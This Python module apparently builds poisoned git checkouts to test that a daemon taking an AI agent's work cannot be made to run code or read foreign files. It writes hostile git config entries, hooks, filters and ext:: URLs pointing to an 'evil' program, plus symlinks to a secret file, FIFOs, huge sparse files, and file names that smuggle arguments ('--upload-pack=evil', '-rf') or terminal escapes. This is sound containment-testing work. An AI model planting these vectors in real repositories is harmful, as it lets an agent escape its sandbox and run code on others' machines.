"""Everything that an agent can plant in its clone to have a git of somebody else run a program or read what is not its own."""

import os
import shutil
from pathlib import Path

import gitkit
from gitkit import run, write

HOOKS = (
    "post-checkout", "post-commit", "post-merge", "post-index-change", "pre-auto-gc", "reference-transaction", "post-rewrite",
    "pre-receive", "update", "post-receive", "post-update", "push-to-checkout", "proc-receive", "pre-push", "fsmonitor-watchman",
)


def settings(evil: Path) -> str:
    return f"""
[core]
	fsmonitor = {evil}
	hooksPath = {evil.parent}/hooks
	sshCommand = {evil}
	pager = {evil}
	editor = {evil}
	askPass = {evil}
	gitProxy = {evil}
	alternateRefsCommand = {evil}
	attributesFile = {evil.parent}/attributes
	untrackedCache = true
[include]
	path = {evil.parent}/included
[extensions]
	worktreeConfig = true
[filter "evil"]
	clean = {evil} clean
	smudge = {evil} smudge
	required = true
[filter "lfs"]
	process = {evil} process
	clean = {evil} clean
[diff]
	external = {evil}
[diff "evil"]
	textconv = {evil}
	command = {evil}
[merge "evil"]
	driver = {evil} %A
[uploadpack]
	packObjectsHook = {evil}
	allowAnySHA1InWant = true
[transfer]
	fsckObjects = false
[gc]
	recentObjectsHook = {evil}
[credential]
	helper = !{evil}
[gpg]
	program = {evil}
[protocol]
	allow = always
[protocol "ext"]
	allow = always
[remote "origin"]
	uploadpack = {evil}
	vcs = evil
[url "ext::{evil} "]
	insteadOf = {evil.parent}
[alias]
	upload-pack = !{evil}
	status = !{evil}
[submodule]
	recurse = true
[maintenance]
	auto = true
"""


def poison(path: Path, evil: Path) -> None:
    """All that can be planted in a checkout without stopping the daemon from taking the work."""
    attributes = "* filter=evil diff=evil merge=evil\n*.txt filter=lfs\n[attr]evil filter=evil\n"
    inner = path / "embedded"
    run(path, "init", "-q", "--bare", str(inner))
    (inner / "config").write_text(
        f"[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = ..\n\tfsmonitor = {evil}\n")
    (inner / "hooks").mkdir(exist_ok=True)
    shutil.copy(path / ".git/index", inner / "index")
    write(path, {".gitattributes": attributes, "a.txt": "work\n", ".lfsconfig": f"[lfs]\n\turl = ext::{evil}\n",
                 "embedded/refs/x": "x", ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ./x\n'})
    gitkit.commit(path, {}, "Work\n\nwith everything")
    for folder in (path / ".git/hooks", evil.parent / "hooks", inner / "hooks"):
        folder.mkdir(exist_ok=True)
        for name in HOOKS:
            (folder / name).unlink(missing_ok=True)
            (folder / name).symlink_to(evil)
    (evil.parent / "attributes").write_text(attributes)
    (evil.parent / "included").write_text(f"[core]\n\tfsmonitor = {evil}\n")
    write(path, {"a.txt": "uncommitted\n", "new.txt": "untracked\n", ".git/info/attributes": attributes,
                 ".git/config.worktree": f"[core]\n\tfsmonitor = {evil}\n"})
    with (path / ".git/config").open("a") as config:
        config.write(settings(evil))


def hostile(inner: Path, evil: Path) -> Path:
    """A repository whose every look at itself runs a program: its filter is needed to tell whether a file has changed."""
    if not inner.exists() or not any(inner.iterdir()):
        gitkit.make_repo(inner)
    write(inner, {"README.md": "# Another\n", ".git/info/attributes": "* filter=evil\n"})
    with (inner / ".git/config").open("a") as config:
        config.write(settings(evil))
    return inner


def traps(path: Path, secret: Path) -> None:
    """What makes a reader wait, read elsewhere or fill a disk: pipes, links, a sparse giant, names that a terminal would obey."""
    for name in ("pipe", ".git/pipe", ".git/refs/heads/pipe", ".git/logs/pipe"):
        (path / name).parent.mkdir(parents=True, exist_ok=True)
        os.mkfifo(path / name)
    for name in ("link", ".git/refs/heads/link", ".git/ORIG_HEAD", ".git/packed-refs", ".git/COMMIT_EDITMSG"):
        (path / name).unlink(missing_ok=True)
        (path / name).symlink_to(secret)
    (path / "way").symlink_to(secret.parent)
    for name in (".git/FETCH_HEAD", ".git/logs/giant"):
        with (path / name).open("wb") as file:
            file.truncate(1 << 40)
    for name in ("esc\x1b]52;c;eA==\x07.txt", "new\nline.txt", "-rf", "--upload-pack=evil", ":(glob)x", "\u202etxt.exe"):
        (path / name).write_text("a name is only a name\n")
